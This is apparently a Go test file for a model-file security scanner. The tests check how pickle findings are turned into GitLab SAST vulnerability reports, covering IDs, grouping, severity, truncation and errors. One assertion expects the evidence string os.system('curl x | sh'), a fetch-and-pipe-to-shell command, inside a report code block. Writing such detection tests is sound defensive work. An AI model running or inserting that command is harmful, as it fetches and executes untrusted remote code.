package gitlab

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/mlguard/mlguard/internal/finding"
	"github.com/mlguard/mlguard/internal/report/reporttest"
)

var sastOpts = SASTOptions{
	StartTime:   time.Date(2026, 11, 22, 4, 50, 11, 123, time.FixedZone("CET", 3600)),
	EndTime:     time.Date(2026, 11, 22, 3, 51, 0, 0, time.UTC),
	ToolVersion: "0.1.0",
}

func writeSAST(t *testing.T, r *finding.Result, opts SASTOptions) ([]byte, sastReport) {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteSAST(&buf, r, opts); err != nil {
		t.Fatalf("WriteSAST: %v", err)
	}
	validateSAST(t, buf.Bytes())
	var rep sastReport
	if err := json.Unmarshal(buf.Bytes(), &rep); err != nil {
		t.Fatalf("decoding output: %v", err)
	}
	return buf.Bytes(), rep
}

func TestWriteSASTGolden(t *testing.T) {
	t.Parallel()
	tests := []struct {
		golden string
		result *finding.Result
	}{
		{"sast-full.json", reporttest.Full()},
		{"sast-empty.json", reporttest.Empty()},
		{"sast-mixed.json", mixed()},
	}
	for _, tt := range tests {
		t.Run(tt.golden, func(t *testing.T) {
			t.Parallel()
			out, _ := writeSAST(t, tt.result, sastOpts)
			reporttest.Golden(t, tt.golden, out, *update)
		})
	}
}

func TestWriteSASTScan(t *testing.T) {
	t.Parallel()
	_, rep := writeSAST(t, reporttest.Empty(), sastOpts)
	want := sastScan{
		Analyzer:  sastComponent{ID: "mlguard", Name: "mlguard", Version: "0.1.0", URL: finding.RepoURL, Vendor: sastVendor{Name: "mlguard"}},
		Scanner:   sastComponent{ID: "mlguard", Name: "mlguard", Version: "0.1.0", URL: finding.RepoURL, Vendor: sastVendor{Name: "mlguard"}},
		Type:      "sast",
		StartTime: "2026-11-22T03:50:11",
		EndTime:   "2026-11-22T03:51:00",
		Status:    "success",
	}
	if diff := cmp.Diff(want, rep.Scan); diff != "" {
		t.Errorf("scan (-want +got):\n%s", diff)
	}
	if rep.Version != SASTSchemaVersion || rep.Vulnerabilities == nil {
		t.Errorf("version %q, vulnerabilities %v", rep.Version, rep.Vulnerabilities)
	}

	// No end time: the start time; no version anywhere: "unknown".
	_, rep = writeSAST(t, &finding.Result{}, SASTOptions{StartTime: sastOpts.StartTime})
	if rep.Scan.EndTime != rep.Scan.StartTime || rep.Scan.Analyzer.Version != "unknown" {
		t.Errorf("defaults: end %s, version %s", rep.Scan.EndTime, rep.Scan.Analyzer.Version)
	}
	// The result's version when the options have none, made plain.
	_, rep = writeSAST(t, &finding.Result{Tool: finding.Tool{Version: "1.2.3 <dirty>"}}, SASTOptions{StartTime: sastOpts.StartTime})
	if rep.Scan.Scanner.Version != "1.2.3__dirty_" {
		t.Errorf("version %q", rep.Scan.Scanner.Version)
	}
}

func TestWriteSASTVulnerabilities(t *testing.T) {
	t.Parallel()
	_, rep := writeSAST(t, reporttest.Full(), sastOpts)
	// Full has six findings: models/my model.pkl has three pickle findings of
	// different rules, models/a.pt two of different rules, weights/b.npy one.
	if len(rep.Vulnerabilities) != 6 {
		t.Fatalf("%d vulnerabilities, want 6", len(rep.Vulnerabilities))
	}
	ids := map[string]bool{}
	for _, v := range rep.Vulnerabilities {
		if !uuidRE.MatchString(v.ID) || ids[v.ID] {
			t.Errorf("id %q is not a fresh v5 UUID", v.ID)
		}
		ids[v.ID] = true
		if strings.ContainsAny(v.Description, "\x1b\u009b") || strings.Contains(v.Description, "[see](") {
			t.Errorf("description not inert: %q", v.Description)
		}
	}
	v := rep.Vulnerabilities[0]
	known, _ := finding.Lookup(finding.PickleDangerousGlobal)
	want := sastVulnerability{
		ID:          v.ID,
		Name:        known.Summary,
		Description: v.Description,
		Severity:    "Critical",
		Solution:    known.Remediation,
		Location:    sastLocation{File: "models/a.pt", StartLine: 1},
		Identifiers: []sastIdentifier{{Type: identifierType, Name: finding.PickleDangerousGlobal, Value: finding.PickleDangerousGlobal, URL: known.HelpURL()}},
	}
	if diff := cmp.Diff(want, v); diff != "" {
		t.Errorf("first vulnerability (-want +got):\n%s", diff)
	}
	if !strings.Contains(v.Description, "```\nos.system('curl x &#124; sh')") && !strings.Contains(v.Description, "```\nos.system('curl x | sh')") {
		t.Errorf("evidence not in a code block:\n%s", v.Description)
	}

	// The same result gives the same ids: GitLab tracks them across pipelines.
	_, again := writeSAST(t, reporttest.Full(), SASTOptions{StartTime: time.Now()})
	for i := range again.Vulnerabilities {
		if again.Vulnerabilities[i].ID != rep.Vulnerabilities[i].ID {
			t.Errorf("vulnerability %d changed id", i)
		}
	}
}

func TestWriteSASTLeavesOutAndGroups(t *testing.T) {
	t.Parallel()
	r := mixed()
	custom := finding.Finding{Rule: "custom/no-bin", Severity: finding.High, Path: "requirements.txt", Line: 7, Message: "custom rule on a package"}
	r.Findings = append(r.Findings, custom)
	r.Packages[0].Findings = append(r.Packages[0].Findings, custom)
	_, rep := writeSAST(t, r, sastOpts)
	// The two identical findings are one vulnerability; the package finding,
	// the custom rule's finding on the package, the waived and the path-less
	// findings are left out.
	if len(rep.Vulnerabilities) != 1 {
		t.Fatalf("%d vulnerabilities, want 1:\n%+v", len(rep.Vulnerabilities), rep.Vulnerabilities)
	}
	d := rep.Vulnerabilities[0].Description
	if !strings.HasPrefix(d, "2 findings of this rule on this line") || strings.Count(d, "posix.system(") != 2 {
		t.Errorf("grouped description:\n%s", d)
	}
}

func TestWriteSASTGroupSeverity(t *testing.T) {
	t.Parallel()
	low := finding.Finding{Rule: "custom/x", Severity: finding.Low, Path: "a.bin", Message: "low one", Help: "docs/policy.md#x"}
	high := low
	high.Severity, high.Message, high.Offset = finding.High, "high one", 9
	other := low
	other.Line = 3
	_, rep := writeSAST(t, &finding.Result{Findings: []finding.Finding{low, high, other}}, sastOpts)
	if len(rep.Vulnerabilities) != 2 {
		t.Fatalf("%d vulnerabilities, want 2", len(rep.Vulnerabilities))
	}
	v := rep.Vulnerabilities[0]
	if v.Severity != "High" || v.Name != "mlguard custom/x" || v.Solution != "" {
		t.Errorf("group: severity %s, name %q, solution %q", v.Severity, v.Name, v.Solution)
	}
	if got, want := v.Identifiers[0].URL, finding.RepoURL+"/blob/main/docs/policy.md#x"; got != want {
		t.Errorf("identifier url %q, want %q", got, want)
	}
	if i, j := strings.Index(v.Description, "high one"), strings.Index(v.Description, "low one"); i < 0 || j < i {
		t.Errorf("most severe not first:\n%s", v.Description)
	}
	if rep.Vulnerabilities[1].Location.StartLine != 3 {
		t.Errorf("second group on line %d, want 3", rep.Vulnerabilities[1].Location.StartLine)
	}
}

func TestWriteSASTBounded(t *testing.T) {
	t.Parallel()
	var fs []finding.Finding
	for i := range 200 {
		f := finding.New(finding.PickleUnknownGlobal, strings.Repeat("@", 1000))
		f.Path = "big.pkl"
		f.Offset = int64(i)
		f.Evidence = strings.Repeat("`", 5000)
		fs = append(fs, f)
	}
	fs[0].Rule = strings.Repeat("r", 10_000)
	out, rep := writeSAST(t, &finding.Result{Findings: fs}, sastOpts)
	for _, v := range rep.Vulnerabilities {
		if len(v.Description) > maxSASTDescription {
			t.Errorf("description of %d bytes", len(v.Description))
		}
		if len([]rune(v.Name)) > maxSASTName {
			t.Errorf("name of %d characters", len([]rune(v.Name)))
		}
	}
	if !strings.Contains(rep.Vulnerabilities[1].Description, "more findings not shown here") {
		t.Error("no line for the findings left out")
	}
	if len(out) > 200<<10 {
		t.Errorf("report of %d bytes", len(out))
	}
}

func TestWriteSASTErrors(t *testing.T) {
	t.Parallel()
	if err := WriteSAST(&bytes.Buffer{}, nil, sastOpts); err == nil {
		t.Error("nil result: no error")
	}
	if err := WriteSAST(&bytes.Buffer{}, reporttest.Full(), SASTOptions{}); err == nil {
		t.Error("no start time: no error")
	}
	if err := WriteSAST(failingWriter{}, reporttest.Full(), sastOpts); !errors.Is(err, errWrite) {
		t.Errorf("failing writer: %v", err)
	}
}

func TestSASTSeverity(t *testing.T) {
	t.Parallel()
	for s, want := range map[finding.Severity]string{
		finding.Info: "Info", finding.Low: "Low", finding.Medium: "Medium", finding.High: "High", finding.Critical: "Critical", finding.Severity(9): "Unknown",
	} {
		if got := sastSeverity(s); got != want {
			t.Errorf("sastSeverity(%d) = %s, want %s", s, got, want)
		}
	}
}
